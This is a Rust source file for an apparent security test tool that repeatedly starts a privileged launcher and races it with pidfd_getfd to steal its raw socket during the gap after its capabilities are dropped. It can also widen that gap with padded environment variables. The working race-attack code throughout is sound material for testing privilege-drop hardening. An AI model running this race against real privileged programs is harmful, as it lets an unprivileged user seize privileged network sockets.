//! `hostile-race LAUNCHER TRIES [NVARS]`: the local user racing the launcher for its
//! raw socket. Run as the attacker: it starts LAUNCHER (`-n -c 1
//! 127.0.0.1`) TRIES times and, while each one runs, hammers
//! `pidfd_getfd` on fds 3 and 4 of it from this process. The launcher holds
//! the sockets at 3 and 4 from step 2 until it becomes the worker; once its
//! capabilities are cleared (step 3) nothing but its dumpable flag keeps a
//! same-uid process out. NVARS junk environment variables (default 0) make
//! the launcher's step 5 (filtering the environment, after the drop) take
//! longer: the attacker chooses how wide the window is. Prints `stolen K of TRIES` and one line per raw
//! socket taken; exit status 1 if any was.

#![forbid(unsafe_code)]

use std::os::fd::AsRawFd;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use hostile::sys;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (Some(launcher), Some(tries)) = (
        args.first(),
        args.get(1).and_then(|s| s.parse::<u32>().ok()),
    ) else {
        eprintln!("usage: hostile-race LAUNCHER TRIES [NVARS]");
        std::process::exit(2);
    };
    let nvars: usize = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(0);
    let junk: Vec<(String, String)> = (0..nvars)
        .map(|i| (format!("J{i}"), "x".repeat(8)))
        .collect();
    let mut stolen = 0;
    for _ in 0..tries {
        let mut child = match Command::new(launcher)
            .args(["-n", "-c", "1", "127.0.0.1"])
            .envs(junk.iter().map(|(k, v)| (k, v)))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
        {
            Ok(c) => c,
            Err(e) => {
                eprintln!("hostile-race: spawn: {e}");
                std::process::exit(2);
            }
        };
        let pid = child.id() as i32;
        if let Ok(pidfd) = sys::pidfd_open(pid) {
            let start = Instant::now();
            'hammer: while start.elapsed() < Duration::from_millis(200) {
                for fd in [3, 4] {
                    match sys::pidfd_getfd(&pidfd, fd) {
                        Ok(got) => {
                            // Before its exec the child is our own copy: only
                            // a raw socket counts.
                            let ty = sys::getsockopt_int(
                                got.as_raw_fd(),
                                libc::SOL_SOCKET,
                                libc::SO_TYPE,
                            );
                            if ty.ok() == Some(libc::SOCK_RAW) {
                                let exe = std::fs::read_link(format!("/proc/{pid}/exe")).ok();
                                println!(
                                    "STOLEN raw socket at fd {fd} of pid {pid} (running {exe:?})"
                                );
                                stolen += 1;
                                break 'hammer;
                            }
                        }
                        Err(e) if e.raw_os_error() == Some(libc::ESRCH) => break 'hammer,
                        Err(_) => {}
                    }
                }
                if let Ok(Some(_)) = child.try_wait() {
                    break;
                }
            }
        }
        let _ = child.kill();
        let _ = child.wait();
    }
    println!("stolen {stolen} of {tries}");
    std::process::exit(i32::from(stolen > 0));
}
